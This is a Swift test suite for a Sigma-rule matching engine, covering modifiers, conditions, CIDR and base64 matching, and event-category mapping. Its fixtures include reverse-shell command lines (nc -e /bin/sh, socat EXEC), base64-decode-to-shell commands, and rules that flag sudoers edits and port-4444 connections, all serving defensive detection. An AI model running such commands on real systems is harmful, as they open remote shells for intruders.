import Foundation
import Testing
import VigilCore
import VigilPolicy

@Suite("Sigma value modifiers and conditions")
struct MatcherTests {
    @Test func plainValuesAreCaseInsensitiveEqualityWithWildcards() {
        let p = policy(
            rule(
                """
                    selection:
                        Image: '/usr/bin/cu?l'
                        CommandLine: '*-o /tmp/*'
                    condition: selection
                """
            )
        )
        #expect(matches(p, process(["Image": "/USR/bin/curl", "CommandLine": "curl -O /tmp/x http://a"])))
        #expect(!matches(p, process(["Image": "/usr/bin/curl2", "CommandLine": "curl -o /tmp/x"])))
        #expect(!matches(p, process(["Image": "/usr/bin/curl"])))  // missing field fails the test
    }

    @Test func escapedWildcardsAreLiteral() {
        let p = policy(
            rule(
                #"""
                    selection:
                        CommandLine|contains: 'a\*b\?c\\d'
                    condition: selection
                """#
            )
        )
        #expect(matches(p, process(["CommandLine": #"x a*b?c\d y"#])))
        #expect(!matches(p, process(["CommandLine": #"x aXb?c\d y"#])))
    }

    @Test func containsStartsWithEndsWithAndAll() {
        let p = policy(
            rule(
                """
                    selection:
                        Image|endswith: '/bash'
                        CommandLine|startswith: 'bash -c'
                        ParentImage|contains|all: [ssh, bin]
                    condition: selection
                """
            )
        )
        #expect(
            matches(p, process(["Image": "/bin/bash", "CommandLine": "BASH -c id", "ParentImage": "/usr/sbin/sshd"]))
        )
        #expect(!matches(p, process(["Image": "/bin/bash", "CommandLine": "BASH -c id", "ParentImage": "/usr/sshd"])))
        #expect(
            !matches(p, process(["Image": "/bin/bash2", "CommandLine": "bash -c id", "ParentImage": "/usr/sbin/sshd"]))
        )
        #expect(
            !matches(p, process(["Image": "/bin/bash", "CommandLine": "sh bash -c", "ParentImage": "/usr/sbin/sshd"]))
        )
    }

    @Test func casedIsCaseSensitive() {
        let p = policy(
            rule(
                """
                    selection:
                        CommandLine|contains|cased: 'SeCreT'
                    condition: selection
                """
            )
        )
        #expect(matches(p, process(["CommandLine": "echo SeCreT"])))
        #expect(!matches(p, process(["CommandLine": "echo secret"])))
    }

    @Test func nonASCIIValuesFoldCase() {
        let p = policy(
            rule(
                """
                    selection:
                        CommandLine|contains: 'ÉTÉ'
                    condition: selection
                """
            )
        )
        #expect(matches(p, process(["CommandLine": "cat /tmp/été.txt"])))
        #expect(!matches(p, process(["CommandLine": "cat /tmp/ete.txt"])))
    }

    @Test func regexWithSubModifiers() {
        let p = policy(
            rule(
                """
                    selection_a:
                        CommandLine|re: '^nc .*-e '
                    selection_b:
                        Image|re|i: '/TMP/[a-z]+$'
                    condition: 1 of selection_*
                """
            )
        )
        #expect(matches(p, process(["CommandLine": "nc 10.0.0.1 4444 -e /bin/sh"])))
        #expect(!matches(p, process(["CommandLine": "NC 10.0.0.1 4444 -e /bin/sh"])))  // re is case-sensitive
        #expect(matches(p, process(["Image": "/tmp/dropper"])))
        #expect(!matches(p, process(["Image": "/tmp/dropper1"])))
    }

    @Test func cidrOnNetworkFields() {
        let p = policy(
            rule(
                category: "network_connection",
                """
                    selection:
                        DestinationIp|cidr: ['10.0.0.0/8', 'fd00::/8']
                    condition: not selection
                """
            )
        )
        #expect(!matches(p, DictionaryFields(category: .networkConnection, values: ["DestinationIp": "10.1.2.3"])))
        #expect(!matches(p, DictionaryFields(category: .networkConnection, values: ["DestinationIp": "fd12::1"])))
        #expect(matches(p, DictionaryFields(category: .networkConnection, values: ["DestinationIp": "8.8.8.8"])))
    }

    @Test func existsNullAndEmpty() {
        let p = policy(
            rule(
                """
                    sel_exists:
                        User|exists: true
                    sel_null:
                        ParentImage: null
                    sel_empty:
                        CurrentDirectory: ''
                    condition: all of sel_*
                """
            )
        )
        #expect(matches(p, process(["User": "root", "CurrentDirectory": ""])))
        #expect(matches(p, process(["User": "root", "ParentImage": "", "CurrentDirectory": ""])))
        #expect(!matches(p, process(["User": "root", "ParentImage": "/bin/sh", "CurrentDirectory": ""])))
        #expect(!matches(p, process(["CurrentDirectory": ""])))
        #expect(!matches(p, process(["User": "root"])))
    }

    @Test func fieldReference() {
        let p = policy(
            rule(
                """
                    selection:
                        ParentImage|fieldref: Image
                    condition: selection
                """
            )
        )
        #expect(matches(p, process(["Image": "/bin/sh", "ParentImage": "/BIN/SH"])))
        #expect(!matches(p, process(["Image": "/bin/sh", "ParentImage": "/bin/bash"])))
        #expect(!matches(p, process(["ParentImage": "/bin/bash"])))
    }

    @Test func base64AndBase64Offset() {
        let p = policy(
            rule(
                """
                    sel_plain:
                        CommandLine|base64|contains: 'curl '
                    sel_offset:
                        CommandLine|base64offset|contains: '/bin/sh'
                    condition: 1 of sel_*
                """
            )
        )
        // "curl " → Y3VybCA=, and "/bin/sh" at the three alignments.
        #expect(matches(p, process(["CommandLine": "echo Y3VybCA= | base64 -d"])))
        for prefix in ["", "a", "ab"] {
            let encoded = Data((prefix + "/bin/sh -i").utf8).base64EncodedString()
            #expect(matches(p, process(["CommandLine": "echo \(encoded) | base64 -d | sh"])), "offset \(prefix.count)")
        }
        #expect(!matches(p, process(["CommandLine": "echo aGVsbG8gd29ybGQ= | base64 -d"])))
        #expect(!matches(p, process(["CommandLine": "echo y3vybca="])))  // base64 stays case-sensitive
    }

    @Test func windashExpandsDashes() {
        let p = policy(
            rule(
                """
                    selection:
                        CommandLine|windash|contains: ' -enc '
                    condition: selection
                """
            )
        )
        #expect(matches(p, process(["CommandLine": "pwsh /enc abc"])))
        #expect(matches(p, process(["CommandLine": "pwsh \u{2013}enc abc"])))
        #expect(!matches(p, process(["CommandLine": "pwsh enc abc"])))
    }

    @Test func numericComparisons() {
        let p = policy(
            rule(
                category: "network_connection",
                """
                    selection:
                        DestinationPort|gte: 1024
                    filter:
                        DestinationPort|lt: 2000
                    condition: selection and not filter
                """
            )
        )
        func port(_ p: String) -> DictionaryFields {
            DictionaryFields(category: .networkConnection, values: ["DestinationPort": p])
        }
        #expect(matches(p, port("4444")))
        #expect(!matches(p, port("1500")))
        #expect(!matches(p, port("80")))
        #expect(!matches(p, port("high")))
    }

    @Test func conditionsWithParenthesesQuantifiersAndThem() {
        let a = policy(
            rule(
                """
                    sel_a:
                        Image|endswith: /a
                    sel_b:
                        Image|endswith: /b
                    filter:
                        User: root
                    condition: (sel_a or sel_b) and not filter
                """
            )
        )
        #expect(matches(a, process(["Image": "/x/a", "User": "bob"])))
        #expect(!matches(a, process(["Image": "/x/a", "User": "root"])))
        #expect(!matches(a, process(["Image": "/x/c", "User": "bob"])))

        let all = policy(
            rule(
                """
                    one:
                        Image|contains: x
                    two:
                        Image|contains: y
                    _helper:
                        Image|contains: z
                    condition: all of them
                """
            )
        )
        #expect(matches(all, process(["Image": "xy"])))
        #expect(!matches(all, process(["Image": "x"])))

        let any = policy(
            rule(
                """
                    one:
                        Image|contains: x
                    two:
                        Image|contains: y
                    condition: 1 of them
                """
            )
        )
        #expect(matches(any, process(["Image": "y"])))
        #expect(!matches(any, process(["Image": "z"])))
    }

    @Test func listOfMapsAndKeywordLists() {
        let p = policy(
            rule(
                """
                    selection:
                        - Image|endswith: /nc
                          CommandLine|contains: ' -e '
                        - Image|endswith: /socat
                    keywords:
                        - 'exec:'
                        - 'EXEC2'
                    condition: selection or keywords
                """
            )
        )
        #expect(matches(p, process(["Image": "/bin/nc", "CommandLine": "nc -e /bin/sh 1.2.3.4"])))
        #expect(!matches(p, process(["Image": "/bin/nc", "CommandLine": "nc -l 80"])))
        #expect(matches(p, process(["Image": "/usr/bin/socat"])))
        #expect(matches(p, process(["Image": "/bin/x", "CommandLine": "x EXEC:/bin/sh"])))
        #expect(matches(p, process(["CurrentDirectory": "/home/exec2"])))
    }

    @Test func notAloneMatchesEventsWithNoHits() {
        let p = policy(
            rule(
                """
                    filter:
                        User: root
                    condition: not filter
                """
            )
        )
        #expect(matches(p, process(["Image": "/bin/true"])))
        #expect(!matches(p, process(["User": "ROOT"])))
    }

    @Test func liveEventsMapToCategories() {
        let p = policy(
            rule(
                category: "file_change",
                """
                    selection:
                        TargetFilename: /etc/sudoers
                        SetUID: 'false'
                    condition: selection
                """
            )
        )
        let file = FileEvent(
            action: .modify,
            targetFilename: "/etc/sudoers",
            metadata: FileMetadata(mode: 0o100440, uid: 0, gid: 0, size: 1, inode: 2)
        )
        #expect(p.evaluate(Event(payload: .file(file))).map(\.ruleId) == ["r1"])
        var created = file
        created.action = .create
        #expect(p.evaluate(Event(payload: .file(created))).isEmpty)  // create is file_event only

        let flows = policy(
            rule(
                category: "network_connection",
                """
                    selection:
                        DestinationIp: 203.0.113.9
                        DestinationPort: 4444
                        Initiated: 'true'
                    condition: selection
                """
            )
        )
        let flow = FlowEvent(
            ts: 1,
            duration: 1,
            proto: "tcp",
            origH: "10.0.0.5",
            origP: 50000,
            respH: "203.0.113.9",
            respP: 4444
        )
        #expect(flows.evaluate(Event(payload: .flow(flow)), localAddresses: ["10.0.0.5"]).count == 1)
        #expect(flows.evaluate(Event(payload: .flow(flow)), localAddresses: ["10.0.0.6"]).isEmpty)
    }
}
